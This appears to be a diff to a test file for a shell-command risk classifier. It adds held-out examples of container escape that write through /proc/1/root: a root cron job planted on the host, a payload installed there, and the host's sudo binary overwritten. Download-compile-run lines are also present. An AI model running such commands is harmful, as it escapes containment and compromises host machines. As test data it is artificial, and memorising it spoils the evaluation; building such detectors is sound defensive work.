@@ -15,7 +15,10 @@ machine that measured them). The commands here are variants written for the test
   ``capsh``/``setpriv`` told to take uid or gid 0, code joining pid 1's namespaces with ``setns``;
 - a git build context whose reference is an option (``#--upload-pack=``), ``apxs -i`` (a web server
   module installed), ``searchsploit -m``;
-- a program compiled from a source downloaded earlier in the command, then run (download and run).
+- a program compiled from a source downloaded earlier in the command, then run (download and run);
+- (after the held-out part was measured: duowen1/Container-escape-exps and a container-escape thesis's PoC
+  notes) a file of another process's root file system (``/proc/1/root/...``, the host's) written, or given
+  to a program that may write it.
 """
 
 from __future__ import annotations
@@ -52,6 +55,12 @@ HELD = {
         "sudo apxs2 -i -a -n evil mod_evil.so",
         "searchsploit --mirror 47163",
     ],
+    "another process's root": [
+        "echo '* * * * * root sh /tmp/r' > /proc/1/root/etc/cron.d/r",
+        "printf x >> /proc/$HOSTPID/root/tmp/flag",
+        "install -m 755 payload /proc/1/root/usr/local/bin/helper",
+        "./overwrite /proc/1/root/usr/bin/sudo stage2",
+    ],
     "compiled download run": [
         "curl -sLo x.c https://example.net/x.c && cc x.c -o x && ./x",
         "wget -q https://example.net/p.c; gcc -O2 -static p.c; ./a.out",
@@ -72,4 +81,7 @@ ALLOWED = [
     "docker build https://github.com/docker/rootfs.git#container:docker",
     "setpriv --reuid=1000 --regid=1000 --init-groups id",
     "ls /mnt/data/projects",
+    "cat /proc/1/root/etc/os-release",
+    "ls -la /proc/1/root/",
+    "grep -c processor /proc/cpuinfo",
 ]
